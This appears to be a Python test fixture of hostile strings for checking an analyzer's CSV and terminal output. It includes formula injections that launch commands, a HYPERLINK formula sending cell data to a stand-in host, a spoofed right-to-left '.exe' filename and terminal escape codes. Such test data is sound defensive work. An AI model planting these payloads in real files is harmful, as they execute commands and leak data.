"""A machine whose texts were written to do harm: in a spreadsheet, at a terminal, in a reader of tables."""

from __future__ import annotations

from typing import Final

from hand_built import analysis, dump, finding, name_spaces, provider

from analyzer.analysis import Analysis, Catalog, Input, Source

TEXTS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"OK")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "two\r\nlines",
    'a "quoted", text',
    'x";=1+1;"',
    "harmless;@SUM(1)",
    'quoted;"=1+1;anew',
    "blank; =1+1",
    " =1+1",
    "lld.\u202egpj.exe",
    "zero\u200bwidth",
    "nul\0byte",
    "\x1b[2Jescape",
    "half\ud800",
    "'apostrophe",
    "服务提供商",
    "",
)
"""One text a provider, in this order."""

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def hostile_analysis() -> Analysis:
    """Return a document with each text as the description of a provider, and some in other places."""
    providers = tuple(provider(n, 1000 + n, text, socket_type=-1) for n, text in enumerate(TEXTS, start=1))
    own = dump(
        "clean",
        "=1+1",
        Catalog(None, providers, name_spaces(), ()),
        machine='=HOST\n"A"',
        source=Source("-case/=a.zip", "=b\t.txt", 1, 400),
        findings=(finding(message="=1+1", remedy=("=1+1", "@SUM(1)")),),
    )
    return analysis(own, inputs=(Input("=no.txt", "unreadable", "+why\nso"), Input("-", "no-catalog")))
